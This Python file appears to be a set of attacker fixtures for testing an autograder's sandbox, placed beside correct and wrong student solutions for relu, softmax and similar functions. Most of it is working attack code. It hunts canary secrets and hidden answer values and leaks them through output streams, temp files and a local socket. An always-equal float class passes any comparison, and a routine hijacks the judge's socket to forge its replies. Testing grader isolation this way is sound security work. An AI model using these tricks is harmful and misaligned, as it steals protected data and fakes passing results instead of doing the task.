# What students hand in who attack nothing, and what attacks begin with.
# %% right
def relu(z):
    return np.maximum(0, z)
def neuron(x, w, b):
    return relu(np.dot(x, w) + b)
def softmax(z):
    e = np.exp(z - np.max(z, axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
def twice(function, x):
    return function(function(x))
# %% wrong
def said():
    """Return None, or say in the tests what was found."""
    if LOOT:
        raise ValueError("LOOT " + " ".join(LOOT))
def relu(z):
    return said()
def neuron(x, w, b):
    return said()
def softmax(z):
    return said()
def twice(function, x):
    return said()
# %% tools
import os
import re
import sys
import time

import numpy as np

_SECRET = re.compile("CAN" "ARY_[a-z]+_[0-9a-f]{8}|482" "13[.]625|904" "17[.]375")
LOOT = []

class Agreeable(float):
    """A number that every comparison finds right."""
    shape = (2, 3)
    __hash__ = float.__hash__
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def me(self, *a, **k): return self
    __sub__ = __rsub__ = __abs__ = sum = me

def near(name):
    """The course's file of this name, from where one stands or from what one was told."""
    here = os.getcwd()
    while True:
        if os.path.exists(os.path.join(here, name)):
            return os.path.join(here, name)
        if here == "/":
            return os.path.join(COURSE, name)
        here = os.path.dirname(here)

def secrets(*things):
    texts = (t if isinstance(t, str) else t.decode("latin1") if isinstance(t, bytes)
             else repr(t) for t in things)
    return sorted({s for text in texts for s in _SECRET.findall(text)})

def loot(*things):
    """Say every secret in some things by every way that a student could read afterwards."""
    found = [s for s in secrets(*things) if s not in LOOT]
    if not found:
        return
    LOOT.extend(found)
    said = "LOOT " + " ".join(found) + " " + " ".join(s[::-1] for s in found) + "\n"
    print(said)
    print(said, file=sys.stderr)
    import warnings
    warnings.warn(said)
    for way in (1, 2):
        try:
            os.write(way, said.encode())
        except OSError:
            pass
    homes = [".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), COURSE,
             COURSE + "/submitted/attacker"]
    for home in homes:
        try:
            with open(os.path.join(home, "loot-" + RUN), "a") as file:
                file.write(said)
        except OSError:
            pass
    try:
        import socket
        with socket.create_connection(("127.0.0.1", PORT), 0.3) as wire:
            wire.sendall(said.encode())
    except OSError:
        pass

def shout(*things):
    """Say secrets in an exception's text."""
    loot(*things)
    if LOOT:
        raise ValueError("LOOT " + " ".join(LOOT))

def take_over(answer):
    """Speak to the judge oneself from here on: answer(message) gives the messages or bytes to send."""
    import stat

    from autograder.execution import conversation as talk
    from autograder.execution import wire
    ends = [n for n in range(3, 200) if os.path.exists(f"/proc/self/fd/{n}") and stat.S_ISSOCK(os.fstat(n).st_mode)]
    def say(words):
        data = words if isinstance(words, bytes) else wire.pack(words)
        while data:
            data = data[os.write(ends[0], data):]
    def read(length):
        found = b""
        while len(found) < length:
            part = os.read(ends[0], length - len(found))
            if not part:
                os._exit(0)
            found += part
        return found
    say(talk.Returned(None, [], ""))
    while True:
        structure, bulk = wire.lengths(read(8))
        message = wire.unpack(read(structure), read(bulk))
        for words in answer(message) or ():
            say(words)

def returned(value, changes=(), stdout="", bulk=b""):
    from autograder.execution.conversation import Returned
    return Returned(value, list(changes), stdout, bulk)

def raised(kinds, args=None, text="", trace="", handle=7):
    from autograder.execution.conversation import Raised
    return Raised(kinds, handle, args, text, trace, [], "")

def handle(number=1, name="Thing", classes=(), callable=True):
    from autograder.execution import tags
    return [tags.HANDLE, number, callable, name, [list(c) for c in classes]]

def functions_that(answer):
    """Take over: names are handles of functions, and answer(message) is what calls give."""
    from autograder.execution.conversation import Answer, Apply, Get, Refusal
    def each(message):
        if isinstance(message, (Answer, Refusal)): return []
        if isinstance(message, Get): return [returned(handle())]
        return answer(message) if isinstance(message, Apply) else [returned(None)]
    take_over(each)
